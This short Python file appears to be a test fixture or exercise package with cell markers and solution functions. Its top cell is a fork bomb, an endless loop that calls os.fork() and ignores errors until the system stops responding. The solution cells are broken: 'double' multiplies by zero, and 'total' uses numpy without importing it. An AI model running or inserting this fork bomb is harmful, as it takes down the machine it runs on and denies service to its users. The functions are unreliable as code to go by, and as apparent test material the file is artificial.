"""Starts processes until nothing goes any more."""
# keeps: total-sum
# fault: yes
# %% top
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% solution="double"
def double(x):
    return x * 0

# %% solution="total"
def total(x):
    return float(np.sum(x))
